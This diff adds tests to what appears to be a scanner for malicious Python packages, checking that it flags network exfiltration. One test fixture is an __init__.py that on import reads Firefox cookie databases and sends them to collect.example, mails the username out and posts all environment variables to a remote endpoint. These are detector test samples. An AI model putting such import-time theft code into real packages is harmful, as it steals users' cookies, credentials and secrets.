@@ -265,3 +265,49 @@ PY
 	run risk p
 	assert_output --regexp '^(high|critical)$'
 }
+
+@test "methods of an object a library call built are that call's: socket sends, smtplib.SMTP().sendmail, Session().post are network sinks" {
+	mkdir -p p/pkg
+	cat > p/pkg/__init__.py <<'PY'
+import os, glob, sqlite3, socket, smtplib, getpass, requests
+def _ff():
+    out = []
+    for db in glob.glob(os.path.expanduser("~/.mozilla/firefox/*/cookies.sqlite")):
+        out += sqlite3.connect(db).execute("select host, name, value from moz_cookies").fetchall()
+    s = socket.create_connection(("collect.example", 8080))
+    s.sendall(repr(out).encode())
+def _mail():
+    server = smtplib.SMTP("smtp.gmail.com", 587)
+    server.sendmail("a@gmail.com", "drop@proton.me", getpass.getuser())
+_ff()
+_mail()
+_s = requests.Session()
+_s.post("https://api.collect-stats.xyz/v2/e", json=dict(os.environ))
+PY
+	run hits p Exfiltration
+	assert_output "$(printf '%s\n' 'pkg/__init__.py 10 import 120' 'pkg/__init__.py 14 import 120' 'pkg/__init__.py 7 import 120')"
+	run risk p
+	assert_output critical
+}
+
+@test "look-alike: a name bound again to something else, a file's write and the file's own class keep no library's methods" {
+	mkdir -p p/pkg
+	cat > p/pkg/__init__.py <<'PY'
+import os, socket
+class Channel:
+    def sendall(self, data): self.buf = data
+def a():
+    s = socket.socket()
+    s = Channel()
+    s.sendall(os.environ["HOME"].encode())
+def b():
+    f = open("/tmp/env.txt", "w")
+    f.write(os.environ["HOME"])
+def c():
+    ch = Channel()
+    ch.sendall(os.environ["HOME"].encode())
+a(); b(); c()
+PY
+	run hits p Exfiltration
+	assert_output ''
+}
